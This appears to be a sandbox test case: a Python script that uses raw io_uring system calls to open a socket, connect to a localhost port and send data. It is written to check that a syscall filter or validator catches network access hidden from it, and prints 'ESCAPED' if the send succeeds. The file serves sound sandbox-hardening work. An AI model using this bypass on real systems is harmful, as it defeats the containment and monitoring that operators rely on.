# attack: io_uring runs socket, connect and send inside the kernel, where a filter of system calls does not see them
# expect: sandbox
# validator: refused
import ctypes
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER = 425, 426  # The same numbers on x86_64 and aarch64.
OP_SOCKET, OP_CONNECT, OP_SEND = 45, 16, 26


class Ring:
    def __init__(self):
        self.parameters = ctypes.create_string_buffer(120)
        self.fd = libc.syscall(SETUP, 4, self.parameters)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup")
        words = struct.unpack("=30I", self.parameters.raw)
        self.sq_tail, self.sq_mask, self.sq_array = words[11], words[12], words[16]
        self.cq_head, self.cq_mask, self.cqes = words[20], words[22], words[25]
        size = max(self.sq_array + words[0] * 4, self.cqes + words[1] * 16)
        self.rings = mmap.mmap(self.fd, size, offset=0)
        self.entries = mmap.mmap(self.fd, words[0] * 64, offset=0x10000000)

    def word(self, at):
        return struct.unpack_from("=I", self.rings, at)[0]

    def do(self, entry):
        tail = self.word(self.sq_tail)
        slot = tail & self.word(self.sq_mask)
        self.entries[slot * 64 : slot * 64 + 64] = entry.ljust(64, b"\0")
        struct.pack_into("=I", self.rings, self.sq_array + 4 * slot, slot)
        struct.pack_into("=I", self.rings, self.sq_tail, tail + 1)
        if libc.syscall(ENTER, self.fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head = self.word(self.cq_head)
        _, result, _ = struct.unpack_from("=QiI", self.rings, self.cqes + 16 * (head & self.word(self.cq_mask)))
        struct.pack_into("=I", self.rings, self.cq_head, head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def entry(operation, fd, offset, address=0, length=0):
    return struct.pack("=BBHiQQI", operation, 0, 0, fd, offset, address, length)


try:
    ring = Ring()
    made = ring.do(entry(OP_SOCKET, 2, 1))
    address = ctypes.create_string_buffer(
        struct.pack("=H", 2) + struct.pack(">H", @TCP_PORT@) + bytes((127, 0, 0, 1)) + bytes(8), 16
    )
    ring.do(entry(OP_CONNECT, made, 16, ctypes.addressof(address)))
    text = ctypes.create_string_buffer(b"hello")
    if ring.do(entry(OP_SEND, made, 0, ctypes.addressof(text), 5)) == 5:
        print("ESCAPED: io_uring connected and sent", flush=True)
except Exception as error:
    print(type(error).__name__, error)
